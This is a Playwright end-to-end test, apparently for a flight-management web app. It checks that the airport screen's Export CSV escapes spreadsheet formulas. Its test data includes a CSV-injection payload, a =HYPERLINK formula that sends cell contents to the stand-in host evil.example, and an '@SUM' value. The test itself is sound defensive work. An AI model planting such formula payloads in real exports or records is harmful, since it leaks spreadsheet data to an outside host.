// CSV injection through a browser export (issue 39): an airport named like a spreadsheet formula comes
// out of the airport screen's Export CSV as text (a leading '), its negative latitude as the number it is.
import fs from 'node:fs';
import { expect, test } from '@playwright/test';
import { screenshot, signIn, suiteBrowser } from '../support/browser';
import { apiAs, freeAirportCodes, openFromMenu, randomDigits, searchOne } from './flight-support';

const { withPage } = suiteBrowser();

test.describe('Export CSV neutralises formulas', () => {
  test('the airport export writes =HYPERLINK(...) and @SUM(...) as text', async () => {
    const api = await apiAs('admin');
    const codes = await freeAirportCodes(api);
    const name = `=HYPERLINK("http://evil.example/?x="&A1,"Field ${randomDigits(4)}")`;
    const { id } = await api.post('/api/flight/airport', {
      ...codes,
      name,
      city: '@SUM(1+1)',
      latitude: -4.0975,
      longitude: 138.9514,
      timezone: 'Asia/Jayapura',
    });
    try {
      await withPage(async (page) => {
        await signIn(page, 'admin');
        await openFromMenu(page, 'Airport', '/flight/airport');
        await searchOne(page, codes.iata);
        await screenshot(page, 'csv-formulas-airport');
        const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
        expect(download.suggestedFilename()).toBe('airports.csv');
        const lines = fs
          .readFileSync((await download.path()) ?? '', 'utf8')
          .trim()
          .split('\r\n');
        expect(lines).toHaveLength(2);
        expect(lines[0]).toMatch(/^iata;icao;name;city;country;latitude;longitude;/);
        const [iata, icao, nameCell, city, , latitude] = lines[1].split(';');
        expect([iata, icao]).toEqual([codes.iata, codes.icao]);
        expect(nameCell).toBe(`"'${name.replaceAll('"', '""')}"`);
        expect(city).toBe("'@SUM(1+1)");
        expect(latitude).toBe('-4.0975');
      });
    } finally {
      await api.del(`/api/flight/airport/${id}`);
    }
  });
});
